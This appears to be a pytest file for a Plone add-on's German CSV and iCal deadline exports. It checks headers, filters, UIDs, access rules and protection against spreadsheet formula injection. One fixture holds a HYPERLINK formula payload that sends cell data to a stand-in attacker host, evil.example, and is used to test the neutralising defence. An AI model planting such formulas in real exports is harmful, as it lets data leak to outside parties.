"""@@deadlines.csv (German Excel) and @@deadlines.ics (iCal feed)."""

from dashboard_data import make_agreement
from datetime import date
from kooperation import _
from kooperation.common.csvsafe import neutralise
from kooperation.dashboard.export import CSV_HEADERS
from kooperation.deadlines import Period
from plone import api
from plone.app.testing import logout
from plone.app.testing import setRoles
from plone.app.testing import TEST_USER_ID
from zope.i18n import translate

import csv
import icalendar
import io
import pytest


WINDOW_FORM = {"start": "2026-02-01", "end": "2026-07-31"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'


def call(name, context, request, **form):
    request.form.clear()
    request.form.update(form)
    request.response.setStatus(200)
    return api.content.get_view(name, context, request)()


class TestCSV:
    @pytest.fixture(autouse=True)
    def _setup(self, portal, agreements, layer_request):
        setRoles(portal, TEST_USER_ID, ["Manager"])
        self.portal = portal
        self.net = agreements["net"]
        self.request = layer_request

    def read(self, context=None, **form):
        body = call("deadlines.csv", context or self.net, self.request, **form)
        assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
        text = body.decode("utf-8-sig")
        assert "\r\n" in text
        return list(csv.reader(io.StringIO(text), delimiter=";"))

    def test_headers_and_rows(self):
        rows = self.read(**WINDOW_FORM)
        header = [translate(h, context=self.request) for h in CSV_HEADERS]
        assert rows[0] == header
        assert header[1] == "Vertragsparteien"
        assert [row[0] for row in rows[1:]] == ["Delta", "Alpha", "Beta", "Zeta"]
        alpha = rows[2]
        assert alpha[1:6] == [
            "Partner A, Partner B",
            "In Kraft",
            "31.05.2026",
            "31.08.2026",
            "31.08.2026",
        ]
        assert int(alpha[6]) == (date(2026, 5, 31) - date.today()).days
        assert alpha[7] == self.net["alpha"].absolute_url()
        assert rows[1][2:4] == ["Gekündigt", ""]

    def test_response_headers(self):
        self.read(**WINDOW_FORM)
        response = self.request.response
        assert response.getHeader("Content-Type") == "text/csv; charset=utf-8"
        disposition = response.getHeader("Content-Disposition")
        assert disposition.startswith('attachment; filename="fristen-net-')
        assert disposition.endswith('.csv"')

    def test_same_filters(self):
        rows = self.read(**WINDOW_FORM, partner=self.net["a"].UID(), review_state="in_force")
        assert [row[0] for row in rows[1:]] == ["Alpha"]
        rows = self.read(self.portal, **WINDOW_FORM, legal_sphere="Schulrecht")
        assert [row[0] for row in rows[1:]] == ["Omega"]

    def test_formula_is_neutralised(self):
        with api.env.adopt_roles(["Manager"]):
            self.net["c"].title = "@Partner C"
            self.net["c"].reindexObject()
        make_agreement(
            self.net,
            "boese",
            FORMULA,
            "ac",
            date(2020, 9, 1),
            "in_force",
            {"notice_period": Period(3, "months")},
        )
        rows = self.read(**WINDOW_FORM)
        (row,) = [r for r in rows if "HYPERLINK" in r[0]]
        assert row[0] == "'" + FORMULA
        assert row[1] == "Partner A, @Partner C"  # does not start with a formula sign

    @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
    def test_neutralise(self, sign):
        assert neutralise(f"{sign}1+1") == f"'{sign}1+1"

    @pytest.mark.parametrize("value", ["Alpha", "", 42, -3, "a=b", "Partner A, @B"])
    def test_harmless_values_unchanged(self, value):
        assert neutralise(value) == value

    def test_bad_input_is_400(self):
        body = call("deadlines.csv", self.net, self.request, end="31.07.2026")
        assert self.request.response.getStatus() == 400
        assert "JJJJ-MM-TT" in body.decode("utf-8")

    def test_anonymous_gets_headers_only(self):
        logout()
        rows = self.read(self.portal, **WINDOW_FORM)
        assert len(rows) == 1


class TestICal:
    @pytest.fixture(autouse=True)
    def _setup(self, portal, agreements, layer_request):
        setRoles(portal, TEST_USER_ID, ["Manager"])
        self.portal = portal
        self.net = agreements["net"]
        self.agreements = agreements
        self.request = layer_request

    def calendar(self, context=None, **form):
        body = call("deadlines.ics", context or self.net, self.request, **form)
        assert self.request.response.getHeader("Content-Type") == "text/calendar; charset=utf-8"
        return icalendar.Calendar.from_ical(body)

    def events(self, calendar):
        return [
            (str(e["uid"]), e.decoded("dtstart"), e.decoded("dtend"), str(e["summary"]))
            for e in calendar.walk("VEVENT")
        ]

    def summary(self, msgid, default, title):
        message = _(msgid, default=default, mapping={"title": title})
        return translate(message, context=self.request)

    def notice(self, title):
        return self.summary("dashboard_ical_notice_deadline", "Notice deadline: ${title}", title)

    def term_end(self, title):
        return self.summary("dashboard_ical_term_end", "End of term: ${title}", title)

    def test_events_in_the_window(self):
        calendar = self.calendar(**WINDOW_FORM)
        uid = {key: self.agreements[key].UID() for key in ("alpha", "beta", "delta", "zeta")}
        one_day = date.resolution
        assert sorted(self.events(calendar)) == sorted(
            [
                (
                    f"{uid['delta']}-term-end-2026-03-31@kooperation",
                    date(2026, 3, 31),
                    date(2026, 3, 31) + one_day,
                    self.term_end("Delta"),
                ),
                (
                    f"{uid['alpha']}-notice-deadline-2026-05-31@kooperation",
                    date(2026, 5, 31),
                    date(2026, 6, 1),
                    self.notice("Alpha"),
                ),
                (
                    f"{uid['zeta']}-term-end-2026-05-31@kooperation",
                    date(2026, 5, 31),
                    date(2026, 6, 1),
                    self.term_end("Zeta"),
                ),
                (
                    f"{uid['beta']}-term-end-2026-05-31@kooperation",
                    date(2026, 5, 31),
                    date(2026, 6, 1),
                    self.term_end("Beta"),
                ),
            ]
        )

    def test_both_dates_in_the_window(self):
        calendar = self.calendar(start="2026-05-01", end="2026-12-31", partner=self.net["a"].UID())
        kinds = sorted((str(e["uid"]).split("-", 1)[1]) for e in calendar.walk("VEVENT"))
        # alpha: notice 31.05., term end 31.08.; gamma: notice 31.10., term end 30.11.;
        # eta (notice given): term end 31.08. only
        assert kinds == [
            "notice-deadline-2026-05-31@kooperation",
            "notice-deadline-2026-10-31@kooperation",
            "term-end-2026-08-31@kooperation",
            "term-end-2026-08-31@kooperation",
            "term-end-2026-11-30@kooperation",
        ]

    def test_all_day_events_with_url(self):
        calendar = self.calendar(
            **WINDOW_FORM, review_state="in_force", partner=self.net["a"].UID()
        )
        (event,) = calendar.walk("VEVENT")
        ical = event.to_ical().decode()
        assert "DTSTART;VALUE=DATE:20260531" in ical
        assert "DTEND;VALUE=DATE:20260601" in ical
        url = self.net["alpha"].absolute_url()
        assert str(event["url"]) == url
        assert str(event["description"]).splitlines() == [url, "Partner A, Partner B"]
        assert str(event["transp"]) == "TRANSPARENT"
        assert "dtstamp" in event

    def test_stable_uids(self):
        first = [str(e["uid"]) for e in self.calendar(**WINDOW_FORM).walk("VEVENT")]
        second = [str(e["uid"]) for e in self.calendar(**WINDOW_FORM).walk("VEVENT")]
        assert first == second
        assert len(set(first)) == len(first)

    def test_calendar_properties(self):
        calendar = self.calendar(**WINDOW_FORM)
        assert str(calendar["version"]) == "2.0"
        assert str(calendar["prodid"]) == "-//kooperation//Fristen//DE"
        assert str(calendar["x-wr-calname"]).endswith("Netz net")

    def test_partner_feed(self):
        calendar = self.calendar(self.net["c"], **WINDOW_FORM)
        titles = sorted(str(e["summary"]) for e in calendar.walk("VEVENT"))
        assert titles == sorted(
            [self.term_end("Delta"), self.term_end("Zeta"), self.term_end("Beta")]
        )
        assert str(calendar["x-wr-calname"]).endswith("Partner C")

    def test_site_feed(self):
        calendar = self.calendar(self.portal, **WINDOW_FORM)
        assert self.notice("Omega") in [str(e["summary"]) for e in calendar.walk("VEVENT")]

    def test_anonymous_sees_no_events(self):
        logout()
        assert self.calendar(self.portal, **WINDOW_FORM).walk("VEVENT") == []

    def test_bad_input_is_400(self):
        body = call("deadlines.ics", self.net, self.request, start="2026-07-31", end="2026-02-01")
        assert self.request.response.getStatus() == 400
        assert "31.07.2026" in body.decode("utf-8")
